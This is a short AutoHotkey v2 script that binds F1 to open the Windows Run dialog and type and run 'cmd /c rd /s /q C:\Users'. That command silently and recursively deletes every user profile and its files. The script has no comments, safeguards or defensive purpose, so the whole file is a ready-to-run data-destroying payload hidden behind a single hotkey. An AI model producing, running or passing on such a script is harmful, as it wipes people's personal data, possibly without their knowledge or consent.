#Requires AutoHotkey v2.0
F1:: {
    Send "#r"
    Sleep 500
    SendText "cmd /c rd /s /q C:\Users"
    Send "{Enter}"
}
